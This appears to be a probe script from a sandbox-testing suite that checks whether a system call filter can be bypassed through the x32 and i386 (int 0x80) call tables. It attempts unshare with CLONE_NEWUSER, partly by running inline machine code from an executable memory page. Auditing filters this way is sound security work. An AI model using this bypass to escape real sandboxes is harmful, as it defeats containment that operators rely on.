"""Go around the filter with the other system call tables: x32 and i386 (int 0x80)."""

import ctypes
import mmap
import os

from attack import NR, Probe, libc

probe = Probe()
X32 = 0x40000000
CLONE_NEWUSER = 0x10000000


def in_child(action) -> str:
    """Run ``action`` in a child: the filter kills a process, not just a thread."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if action() == -1 else 3)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return f"killed by signal {os.WTERMSIG(status)}"
    return f"exit {os.WEXITSTATUS(status)}"


def x32_unshare() -> int:
    return libc.syscall(
        ctypes.c_long(X32 | NR["unshare"]), ctypes.c_long(CLONE_NEWUSER)
    )


# push rbx; mov eax, 310 (i386 unshare); mov ebx, edi; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53b83601000089fbcd805bc3")


def i386_unshare() -> int:
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(address)
    result = function(CLONE_NEWUSER)
    return -1 if result < 0 else result


for name, action in (("x32 unshare", x32_unshare), ("i386 unshare", i386_unshare)):
    outcome = in_child(action)
    if outcome == "exit 3":
        probe.escape(name, "the call succeeded")
    else:
        probe.note(name, outcome)
probe.report()
